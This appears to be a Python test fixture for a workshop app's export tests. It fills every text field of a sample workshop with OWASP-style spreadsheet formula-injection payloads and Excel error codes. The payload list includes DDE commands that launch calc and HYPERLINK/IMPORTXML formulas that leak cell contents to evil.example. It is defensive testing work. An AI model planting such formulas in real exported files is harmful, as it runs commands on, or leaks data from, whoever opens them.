"""A workshop whose every text field holds a formula-injection payload or an error-code look-alike, for the
export tests: the OWASP CSV-injection list (https://owasp.org/www-community/attacks/CSV_Injection) and Excel's
error codes. Names stay consistent across references, so the workshop is valid."""

from __future__ import annotations

import itertools
import json
from pathlib import Path
from typing import Any

from workshop.domain.entities import Workshop
from workshop.services.catalog import sample_workshop
from workshop.services.library_service import read_workshop_file, write_workshop_file

PAYLOADS = (
    "=1+2",
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-1+2",
    "@SUM(1+2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "\t=1+2",
    "\r=1+2",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    "#N/A",
    "#DIV/0!",
    "#REF!",
    "#NAME?",
    "#NULL!",
    "#NUM!",
    "#VALUE!",
    "#GETTING_DATA",
)
ERROR_CODES = frozenset(p for p in PAYLOADS if p.startswith("#"))

#: The paths whose strings are free text or names (never enums, dates or keys of the method).
_TEXT_FIELDS = {
    ("workshop", "title"), ("workshop", "organisation"), ("workshop", "facilitator"),
    ("departments", "name"), ("participants", "name"), ("participants", "department"), ("participants", "role"),
    ("stakeholders", "name"), ("stakeholders", "role"), ("stakeholders", "department"),
    ("outcomes", "title"), ("outcomes", "audience"), ("outcomes", "notes"), ("kpi", "metric"), ("kpi", "unit"),
    ("criteria", "name"), ("channels", "name"), ("channels", "owner"), ("raci", "participant"),
    ("scores", "channel"), ("choices", "channel"), ("votes", "participant"), ("votes", "channel"),
    ("actions", "title"), ("actions", "channel"), ("actions", "owner"), ("parking_lot", "text"),
    ("parking_lot", "by"), ("decisions", "text"), ("decisions", "by"),
}  # fmt: skip


_MULTILINE = {"notes", "text"}


def hostile_workshop(tmp: Path) -> Workshop:
    """The sample workshop with every name and text replaced, consistently, by a payload."""
    source = tmp / "sample.json"
    write_workshop_file(sample_workshop(), source)
    data = json.loads(source.read_text(encoding="utf-8"))
    mapping: dict[str, str] = {}
    used: set[str] = set()
    counter = itertools.count()

    def hostile(text: str, multiline: bool) -> str:
        if text not in mapping:
            # The method's bounds keep tabs and line breaks out of names and titles; free text may hold them.
            choices = PAYLOADS if multiline else [p for p in PAYLOADS if p[0] not in "\t\r"]
            payload = choices[next(counter) % len(choices)]
            candidate, n = payload, 1
            while candidate.casefold() in used:
                n += 1
                candidate = f"{payload} {n}"
            used.add(candidate.casefold())
            mapping[text] = candidate
        return mapping[text]

    def walk(node: Any, parent: str) -> Any:
        if isinstance(node, dict):
            out = {}
            for key, value in node.items():
                if isinstance(value, str) and (parent, key) in _TEXT_FIELDS and value:
                    out[key] = hostile(value, key in _MULTILINE)
                elif key == "aliases":
                    out[key] = []
                else:
                    out[key] = walk(value, key if isinstance(value, (dict, list)) else parent)
            return out
        if isinstance(node, list):
            return [walk(item, parent) for item in node]
        return node

    data = walk(data, "")
    data["workshop"]["dismissed_origins"] = []
    for action in data["actions"]:
        action["origin"] = "manual"
    target = tmp / "hostile.json"
    target.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    ws, _warnings = read_workshop_file(target)
    return ws
